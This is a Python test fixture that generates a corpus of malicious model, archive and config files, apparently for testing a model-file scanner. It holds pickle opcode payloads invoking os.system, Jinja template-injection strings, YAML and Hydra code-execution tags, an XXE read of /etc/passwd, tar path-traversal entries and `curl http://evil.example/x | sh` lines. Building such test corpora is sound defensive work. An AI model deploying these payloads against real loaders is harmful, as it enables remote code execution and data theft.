"""A second corpus of attacks, made after the first was closed, of kinds that it had not: what calls beyond the model, and files of many formats.

Sources beside those of `techniques`: test suites of picklescan, fickling, modelscan and modelaudit (2025, 2026); advisories on SciPy's and NumPy's
own unpicklers, Keras (CVE-2025-9905, CVE-2025-12058), templates, TorchServe, MLflow, sentence-transformers.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import Any

from tests.artifacts.techniques import PROTO as P
from tests.artifacts.techniques import call, named, npy, safetensors, text, torch_zip, zipped


def add(t: tarfile.TarFile, name: str, data: bytes, kind: bytes = tarfile.REGTYPE, to: str = "") -> None:
    one = tarfile.TarInfo(name)
    one.size, one.type, one.linkname = len(data), kind, to
    t.addfile(one, io.BytesIO(data))


def tar(mode: Any, *members: tuple[Any, ...]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for member in members:
            add(t, *member)
    return out.getvalue()


def st(meta: dict[str, str]) -> bytes:
    head = json.dumps({"__metadata__": meta, "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    return len(head).to_bytes(8, "little") + head + bytes(4)


def raw(header: bytes, values: int = 8) -> bytes:
    return len(header).to_bytes(8, "little") + header + bytes(values)


def ways(canary: str) -> dict[str, bytes]:
    """Content by the name of the file; where something runs, it is ``touch CANARY``."""
    C = f"touch {canary}"
    evil = call("os", "system", text(C))
    old = f"cos\nsystem\n(S'{C}'\ntR.".encode()
    V: dict[str, Any]
    V = {
        "getattr_on_distribution.pkl": P
        + named("builtins", "getattr")
        + named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81"
        + text("__class__")
        + b"\x86R.",
        "getattr_zone_other.pkl": P + named("builtins", "getattr") + named("zoneinfo", "ZoneInfo") + text("from_file") + b"\x86R.",
        "getattr_known_then_evil.pkl": P
        + named("builtins", "getattr")
        + b"\x94"
        + named("zoneinfo", "ZoneInfo")
        + text("_unpickle")
        + b"\x86R0h\x00"
        + named("os", "environ")
        + text("get")
        + b"\x86R.",
        "zone_path.pkl": P
        + named("builtins", "getattr")
        + named("zoneinfo", "ZoneInfo")
        + text("_unpickle")
        + b"\x86R("
        + text("../../../tmp/x")
        + b"\x88tR.",
        "dist_exec.pkl": P
        + named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81}("
        + text("_parse_arg_template")
        + text(f"\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n\nimport os\nos.system('{C}')\n")
        + b"ub.",
        "dist_tuple_state.pkl": P
        + named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81}"
        + text("shapes")
        + text("a")
        + b"sN\x86b.",
        "dist_npstr_key.pkl": P
        + named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81}("
        + named("numpy._core.multiarray", "scalar")
        + named("numpy", "dtype")
        + text("U1")
        + b"\x85RC\x04a\0\0\0\x86R"
        + text("x")
        + b"ub.",
        "partial_state.pkl": P
        + named("functools", "partial")
        + named("sklearn.utils.validation", "check_array")
        + b"\x85R("
        + named("os", "system")
        + b"("
        + text(C)
        + b"t}NtB".replace(b"B", b"b")
        + b".",
        "partial_os.pkl": P + named("functools", "partial") + named("os", "system") + b"\x85R.",
        "partial_kept_evil.pkl": P
        + named("functools", "partial")
        + named("numpy", "add")
        + b"\x85R("
        + named("builtins", "eval")
        + b")}NtbR".replace(b"bR", b"b")
        + b".",
        "load_from_bytes_evil.pkl": P + named("torch.storage", "_load_from_bytes") + b"C" + bytes([len(evil)]) + evil + b"\x85R.",
        "default_factory_partial.pkl": call("collections", "defaultdict", named("functools", "partial")),
        "vectorize_evil.pkl": P + named("numpy", "vectorize") + b")\x81}" + text("pyfunc") + named("os", "system") + b"sb.",
        "frozen_evil.pkl": P
        + named("scipy.stats._distn_infrastructure", "rv_continuous_frozen")
        + b")\x81}"
        + text("dist")
        + named("os", "system")
        + b"sb.",
        "spline_slots_class.pkl": P
        + named("scipy.interpolate._cubic", "CubicSpline")
        + b")\x81N}"
        + text("__class__")
        + named("builtins", "type")
        + b"s\x86b.",
        "enum_evil.pkl": call("transformers.trainer_utils", "IntervalStrategy", named("os", "system")),
        "training_args_evil.bin": torch_zip(
            P + named("transformers.training_args", "TrainingArguments") + b")\x81}" + text("x") + evil[2:-1] + b"sb."
        ),
        "sparse_layout.pt": torch_zip(P + named("torch._utils", "_rebuild_sparse_tensor") + named("os", "system") + text(C) + b"\x86R."),
        "cloudpickle_fn.pkl": P
        + named("cloudpickle.cloudpickle", "_make_function")
        + b"("
        + named("cloudpickle.cloudpickle", "_builtin_type")
        + text("CodeType")
        + b"\x85R("
        + b"K\x00K\x00K\x00K\x00K\x01K\x00C\x02d\x00N\x85("
        + text("os")
        + text("system")
        + b"t)"
        + text("f") * 3
        + b"K\x01C\0C\0))tRNNNNtR.",
        "memo_swap.pkl": P
        + text("os")
        + b"\x94"
        + text("collections")
        + b"\x94"
        + b"00h\x00"
        + text("system")
        + b"\x93"
        + text(C)
        + b"\x85R.",
        "list_ext.pkl": b"\x80\x02\x82\x01.",
        "nested_zlib.pkl": call("zlib", "decompress", b"C" + bytes([len(zlib.compress(old))]) + zlib.compress(old)),
        "proto0_persid.pkl": b"Pos.system\n.",
        "long_name.pkl": P + text("os") + text("system" + "\0") + b"\x93)R.",
        "unicode_name.pkl": P + text("ｏｓ") + text("system") + b"\x93" + text(C) + b"\x85R.",
        "dotdot.pkl": P + named("sklearn.svm._classes", "os.system") + text(C) + b"\x85R.",
        "sklearn_dotted.pkl": P + named("sklearn.pipeline", "Pipeline.__init__.__globals__") + b".",
        "numpy_dotted.pkl": P + named("numpy", "add.__class__") + text("x") + b"\x85R.",
        "known_module_evil_attr.pkl": P + named("sklearn.metrics._classification", "warnings.sys.modules") + b".",
        "tree_huge.pkl": P + named("sklearn.tree._tree", "Tree") + b"(J\x10\0\0\0" + b"]J\xff\xff\xff\x7ftR.",
        "reduce_on_type.pkl": call("builtins", "type", text("X"), b")", b"}"),
        "obj_setattr.pkl": P + named("argparse", "Namespace") + b")\x81}" + text("__reduce__") + named("os", "system") + b"sb.",
        "deque_evil.pkl": call("collections", "deque", evil[2:-1]),
        "od_evil.pkl": P + named("collections", "OrderedDict") + b")R" + evil[2:-1] + b"K\x01s.",
        "bytes_escape_literal.pkl": f"cos\\x0a\nsystem\n(S'{C}'\ntR.".encode(),
        "stop_then_evil.pkl": pickle.dumps(1, 2) + b"\0" * 9 + evil,
        "spaces_then_evil.pkl": b"\n\n" + old,
        "binfloat_noise.pkl": b"".join([P, b"G" + b"\x40" + bytes(7) + b"0"] * 200) + evil[2:],
        "frame_lies.pkl": P + b"\x95" + struct.pack("<Q", 5) + evil[2:],
        "joblib_wrapper_evil_subclass.joblib": b"\x80\x03"
        + named("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81}"
        + text("subclass")
        + named("os", "system")
        + b"sb.",
        "ndarraywrapper_path.joblib": P
        + named("joblib.numpy_pickle", "NDArrayWrapper")
        + b")\x81}("
        + text("filename")
        + text("../../etc/passwd")
        + text("subclass")
        + named("numpy", "ndarray")
        + b"ub.",
        "znd.joblib": P + named("joblib.numpy_pickle", "ZNDArrayWrapper") + b")\x81}" + text("filename") + text("x") + b"sb.",
        "memory_location.joblib": P
        + named("sklearn.pipeline", "Pipeline")
        + b")\x81}"
        + text("memory")
        + named("joblib.memory", "Memory")
        + b")\x81}"
        + text("location")
        + text("/tmp/x")
        + b"sbsb.",
        "lz4.joblib": b"\x04\x22\x4d\x18" + evil,
        "xz.joblib": lzma.compress(evil),
        "lzma_alone.joblib": lzma.compress(evil, format=lzma.FORMAT_ALONE),
        "double_gz.joblib": gzip.compress(gzip.compress(evil)),
        "gz_named.csv.gz": gzip.compress(evil),
        "zlib_raw.joblib": zlib.compress(evil, 0),
        "gz_multi.joblib": gzip.compress(pickle.dumps(1)) + gzip.compress(evil),
        "gz_tar.joblib": gzip.compress(evil + b"\0" * 1024),
        "bz2x.pkl": bz2.compress(evil),
        "gz.pt": gzip.compress(torch_zip(evil)),
        "npz_pickle_name.npz": zipped({"a.npy": npy(), "b.pkl": evil}),
        "npy_header_code.npy": npy().replace(b"'descr'", b"'descR'"),
        "npy_v9.npy": b"\x93NUMPY\x09\x00" + npy()[8:],
        "npy_obj_struct.npy": npy().replace(
            b"'|u1', 'fortran_order': False, 'shape': (16,), }                                                       ",
            b"[('a','O')], 'fortran_order': False, 'shape': (1,), }                                                 ",
        )[:128]
        + evil,
        "deflated.pt": zipped({"m/data.pkl": evil, "m/version": b"3\n"}, method=zipfile.ZIP_DEFLATED),
        "two_roots.pt": zipped({"a/data.pkl": pickle.dumps({}, 2), "a/version": b"3", "b/data.pkl": evil}),
        "upper.pt": zipped({"m/DATA.PKL": evil, "m/data.pkl": pickle.dumps({}, 2), "m/version": b"3"}),
        "backslash.pt": zipped({"m\\data.pkl": evil, "m/data.pkl": pickle.dumps({}, 2)}),
        "nul_name.pt": zipped({"m/data.pkl": pickle.dumps({}, 2)}) + b"\0" * 30,
        "prefix.pt": b"MZ" + b"\0" * 600 + torch_zip(evil),
        "torchscript_evil.pt": zipped(
            {"m/data.pkl": evil, "m/constants.pkl": b"\x80\x02).", "m/code/__torch__.py": b"x=1", "m/version": b"3"}
        ),
        "torchscript_save.pt": zipped(
            {
                "m/data.pkl": b"\x80\x02}.",
                "m/constants.pkl": b"\x80\x02).",
                "m/version": b"3",
                "m/code/__torch__.py": b'class M(Module):\n  def forward(self, x):\n    torch.save(x, "/tmp/x")\n    return x\n',
            }
        ),
        "torch_package.pt": zipped(
            {"p/.data/extern_modules": b"os\n", "p/.data/version": b"6\n", "p/m/__init__.py": b"import os", "p/m/model.pkl": evil}
        ),
        "torch_old_tar.pt": tar("w", ("sys_info", pickle.dumps({}, 2)), ("pickle", evil), ("storages", b"x"), ("tensors", b"x")),
        "mar.mar": zipped({"MAR-INF/MANIFEST.json": b'{"model":{"handler":"h.py"}}', "h.py": b"import os"}),
        "skops_op.skops": zipped(
            {
                "schema.json": json.dumps(
                    {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {}, "protocol": 2}
                ).encode()
            }
        ),
        "skops_method.skops": zipped(
            {
                "schema.json": json.dumps(
                    {
                        "__class__": "M",
                        "__module__": "sklearn.linear_model",
                        "__loader__": "MethodNode",
                        "content": {"func": "predict", "obj": {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"}},
                        "protocol": 2,
                    }
                ).encode()
            }
        ),
        "skops_operator.skops": zipped(
            {
                "schema.json": json.dumps(
                    {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {}, "protocol": 2}
                ).encode()
            }
        ),
        "keras_lambda_reg.keras": zipped(
            {
                "config.json": json.dumps(
                    {
                        "class_name": "Functional",
                        "module": "keras",
                        "registered_name": "Functional",
                        "config": {"layers": [{"class_name": "__lambda__", "config": {"value": "4wEAAA=="}}]},
                    }
                ).encode(),
                "metadata.json": b"{}",
            }
        ),
        "keras_get_file.keras": zipped(
            {
                "config.json": json.dumps(
                    {"class_name": "function", "module": "keras.utils", "config": "get_file", "registered_name": "get_file"}
                ).encode(),
                "metadata.json": b"{}",
            }
        ),
        "keras_torchmodule.keras": zipped(
            {
                "config.json": json.dumps(
                    {"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": base64.b64encode(evil).decode()}}
                ).encode(),
                "metadata.json": b"{}",
            }
        ),
        "keras_vocab.keras": zipped(
            {
                "config.json": json.dumps(
                    {"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}}
                ).encode(),
                "metadata.json": b"{}",
            }
        ),
        "keras_with_pickle.keras": zipped(
            {"config.json": b'{"class_name":"Sequential","config":{}}', "metadata.json": b"{}", "assets/x.pkl": evil}
        ),
        "keras_module_import.keras": zipped(
            {"config.json": json.dumps({"class_name": "run", "module": "subprocess", "config": {}}).encode(), "metadata.json": b"{}"}
        ),
        "keras.json": json.dumps(
            {
                "class_name": "Sequential",
                "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wE", "", None], "function_type": "lambda"}}]},
                "keras_version": "2",
            }
        ),
        "keras.yaml": "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: !!python/object/apply:os.system ['x']}\n",
        "tpl.jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "tpl2.jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{%endif%}{%endfor%}",
        "tpl3.jinja": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        "tpl4.jinja": "{% set x='__cla'+'ss__' %}{{ ''[x] }}",
        "tpl5.jinja": "{{ lipsum['__glo'~'bals__'] }}",
        "tpl6.jinja": "{{ ''|map(attribute='__class__')|list }}",
        "tpl7.jinja": "{{ [messages]|map('attr','__init__') }}",
        "tpl8.jinja": "{% include '/etc/passwd' %}",
        "tpl9.jinja": "{{ self._TemplateReference__context }}",
        "tpl10.jinja": "{{ ('%c'*9)|format(95,95,99,108,97,115,115,95,95) }}{{ x[('%c'*9)|format(95,95,99,108,97,115,115,95,95)] }}",
        "tpl11.jinja": "{{ messages|groupby('__class__') }}",
        "tpl12.jinja": "{{ messages|sort(attribute='__class__.__init__') }}",
        "st_overlap.safetensors": raw(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
        ),
        "st_dup.safetensors": raw(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
        ),
        "st_big.safetensors": (1 << 62).to_bytes(8, "little") + b'{"a":1}',
        "st_tail.safetensors": safetensors() + evil,
        "st_huge_shape.safetensors": raw(b'{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,0]}}', 0),
        "requirements.txt": "numpy\ngit+https://evil.example/x.git\n--index-url http://evil.example\n",
        "setup.py": "import os\nos.system('x')\n",
        "conda.yaml": "dependencies:\n - pip:\n   - http://evil.example/a.whl\n",
        "run.ipynb": json.dumps(
            {
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": {},
                "cells": [{"cell_type": "code", "source": ["!curl x|sh"], "outputs": [], "metadata": {}}],
            }
        ),
        "Dockerfile": "FROM x\nRUN curl x|sh\n",
        "model.svg": "<svg onload=alert(1)>",
        "x.html": "<script>fetch('x')</script>",
        "m.pmml": '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
        "ov.xml": '<?xml version="1.0"?><net name="a" version="11"><layers><layer id="0" name="x" type="Evil" version="extension"/></layers><edges/></net>',
        "hydra.yaml": f"model:\n  _target_: os.system\n  command: '{C}'\n",
        "hydra2.yaml": "a:\n  _target_: builtins.eval\n",
        "yaml.yaml": "!!python/object/new:os.system ['x']\n",
        "yaml2.yaml": "- !!python/name:os.system\n",
        "csv_dde.csv": "a,b\n=cmd|'/C calc'!A0,1\n2,3\n",
        "polyglot.csv": b"a,b\n1,2\n" + zipped({"x.pkl": evil}),
        "elf.bin": b"\x7fELF\x02\x01\x01" + bytes(200),
        "pyc.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(30),
        "marshal.bin": b"\xe3" + bytes(60),
        "exe.pt": b"MZ" + bytes(300),
        "so.so": b"\x7fELF" + bytes(99),
        "jar.jar": zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
        "whl.whl": zipped({"a/__init__.py": b"import os", "a-1.dist-info/METADATA": b"x"}),
        "egg.pkl": zipped({"__main__.py": b"import os"}),
        "rds_promise.rds": gzip.compress(b"X\n" + struct.pack(">iiii", 3, 0x40300, 0x30500, 5) + bytes(8)),
        "rdata.RData": gzip.compress(b"RDX3\nX\n" + bytes(30)),
        "mat.mat": b"MATLAB 5.0 MAT-file" + bytes(200),
        "sqlite.db": b"SQLite format 3\0" + bytes(200),
        "pbtxt.pbtxt": 'node { op: "PyFunc" }',
        "arrow.feather": b"ARROW1\0\0" + b"arrow.py_extension_type" + bytes(40) + b"ARROW1",
        "orc.orc": b"ORC" + bytes(50),
    }
    V["slip.tar"] = tar("w", ("../../evil.py", b"x"))
    V["abs.tar"] = tar("w", ("/etc/cron.d/x", b"x"))
    V["sym.tar"] = tar("w", ("m.bin", b"", tarfile.SYMTYPE, "/etc/passwd"))
    V["hard.tar"] = tar("w", ("m.bin", b"", tarfile.LNKTYPE, "../x"))
    V["dev.tar"] = tar("w", ("z", b"", tarfile.CHRTYPE))
    V["evil.tar.gz"] = tar("w:gz", ("m/model.pkl", evil))
    V["slip.tar.gz"] = tar("w:gz", ("../x.py", b"x"))
    V["evil.tar.bz2"] = tar("w:bz2", ("m.pkl", evil))
    V["evil.tar.xz"] = tar("w:xz", ("m.pkl", evil))
    V["evil.nemo"] = tar("w:gz", ("model_config.yaml", b"_target_: os.system\n"), ("w.ckpt", torch_zip(evil)))
    V["tar_auto.tar"] = tar("w", ("config.json", b'{"auto_map":{"AutoModel":"m.M"}}'), ("m.py", b"import os"))
    V["tar_tpl.tar.gz"] = tar(
        "w:gz", ("m/tokenizer_config.json", json.dumps({"chat_template": V["tpl.jinja"]}).encode()), ("m/model.safetensors", safetensors())
    )
    V["zip_in_zip.zip"] = zipped({"a.zip": zipped({"m.pkl": evil})})
    V["zip5.zip"] = b""
    z = zipped({"m.pkl": evil})
    for _ in range(6):
        z = zipped({"a.zip": z})
    V["zip5.zip"] = z
    V["zip_auto.zip"] = zipped({"m/config.json": b'{"auto_map":{"AutoModel":"m.M"}}', "m/model.safetensors": safetensors()})
    V["zip_tpl.zip"] = zipped({"m/chat_template.jinja": V["tpl.jinja"].encode(), "m/model.safetensors": safetensors()})
    V["zip_py.zip"] = zipped({"m/modeling.py": b"import os", "m/model.safetensors": safetensors()})
    V["zip_keras.zip"] = zipped({"m.keras": V["keras_lambda_reg.keras"]})
    V["zip_gz.zip"] = zipped({"m.pkl.gz": gzip.compress(evil)})
    V["zip_tar.zip"] = zipped({"m.tar": tar("w", ("m.pkl", evil))})
    V["zip_sym.zip"] = None
    out = io.BytesIO()
    zf = zipfile.ZipFile(out, "w")
    i = zipfile.ZipInfo("link")
    i.external_attr = 0xA1FF0000
    zf.writestr(i, "/etc/passwd")
    zf.writestr("m.safetensors", safetensors())
    zf.close()
    V["zip_sym.zip"] = out.getvalue()
    V["safetensors_pickle_meta.safetensors"] = st({"config": base64.b64encode(evil).decode()})
    V["safetensors_target.safetensors"] = st({"cfg": json.dumps({"_target_": "os.system"})})
    V["st_code.safetensors"] = st({"init": f"__import__('os').system('{C}')"})
    V["st_automap.safetensors"] = st({"config": json.dumps({"auto_map": {"AutoModel": "x.Y"}})})
    V["st_tpl.safetensors"] = st({"chat_template": V["tpl.jinja"]})
    V["st_shell.safetensors"] = st({"post_install": "curl http://evil.example/x | sh"})
    V["st_script.safetensors"] = st({"note": "<script>alert(1)</script>"})
    V["st_hex.safetensors"] = st({"w": evil.hex()})
    b64 = base64.b64encode(evil).decode()
    V["text_b64.pkl"] = pickle.dumps({"w": b64}, 4)
    V["text_hex.pkl"] = pickle.dumps({"w": evil.hex()}, 4)
    V["bytes_gz.pkl"] = pickle.dumps({"w": gzip.compress(evil)}, 4)
    V["bytes_evil.pkl"] = pickle.dumps({"w": evil}, 4)
    V["bytes_shift.pkl"] = pickle.dumps({"w": b"\0" + evil}, 4)
    V["src.pkl"] = pickle.dumps({"code": "import os; os.system('x')"}, 4)

    return {name: data.encode() if isinstance(data, str) else data for name, data in V.items() if data is not None}
